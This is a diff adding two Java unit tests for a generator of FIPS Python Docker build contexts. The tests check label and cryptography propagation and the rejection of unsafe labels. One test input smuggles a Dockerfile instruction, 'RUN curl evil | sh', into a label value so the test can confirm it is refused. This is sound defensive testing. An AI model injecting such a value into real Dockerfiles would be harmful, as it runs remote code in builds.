@@ -135,6 +135,38 @@ class GeneratorTest {
         }
     }
 
+    @Test
+    void extraLabelsAndCryptographyReachTheContext() throws Exception {
+        FipsSpec.Options o = new FipsSpec.Options(null, null, null, false, "44.0.3", "file:///wheelhouse", null, false, null, null);
+        FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")), List.of(), null,
+                Map.of(), o, List.of(), Map.of("com.example.team", "payments"));
+        Path out = tmp.resolve("fips");
+        generate(s, out);
+        Path ctx = out.resolve("3.13.5-debian13-openssl3.1.2");
+        String dockerfile = Files.readString(ctx.resolve("Dockerfile"));
+        assertThat(dockerfile).contains(" com.example.team=\"payments\"").contains("RUN sh /fips/scripts/build-cryptography.sh");
+        assertThat(Files.readString(ctx.resolve("cell.env"))).contains("PYFIPS_CRYPTOGRAPHY='44.0.3'")
+                .contains("PYFIPS_PIP_INDEX_URL='file:///wheelhouse'");
+        // the Rust toolchain is installed in the build stage only
+        assertThat(Files.readString(ctx.resolve("scripts/packages.sh"))).contains("PKGS_rust='cargo rustc'")
+                .contains("build) pkgs=\"$PKGS_build\"; [ -n \"${PYFIPS_CRYPTOGRAPHY:-}\" ] && pkgs=\"$pkgs $PKGS_rust\"");
+        assertThat(Files.readString(ctx.resolve("scripts/build-cryptography.sh")))
+                .contains("OPENSSL_DIR=\"$P\"").contains("--no-binary cryptography");
+        JsonNode manifest = new ObjectMapper().readTree(ctx.resolve("manifest.json").toFile());
+        assertThat(manifest.path("labels").path("com.example.team").asText()).isEqualTo("payments");
+        assertThat(manifest.path("cryptography").asText()).isEqualTo("44.0.3");
+    }
+
+    @Test
+    void labelsThatCouldBreakTheDockerfileAreRefused() {
+        FipsSpec s = new FipsSpec(null, List.of(Specs.cell("3.13.5", "debian13", "3.1.2", "3.1.2")), List.of(), null,
+                Map.of(), FipsSpec.Options.defaults(), List.of(),
+                Map.of("com.example.x", "a\"\nRUN curl evil | sh", "dev.pythonfips.fips.validated", "true"));
+        assertThatThrownBy(() -> Specs.planner().plan(s)).isInstanceOf(FipsConfigException.class)
+                .satisfies(e -> assertThat(((FipsConfigException) e).problems()).extracting(Problem::element)
+                        .containsExactlyInAnyOrder("<labels><com.example.x>", "<labels><dev.pythonfips.fips.validated>"));
+    }
+
     static Map<String, String> snapshot(Path root) throws IOException {
         Map<String, String> files = new TreeMap<>();
         List<Path> all = new ArrayList<>();
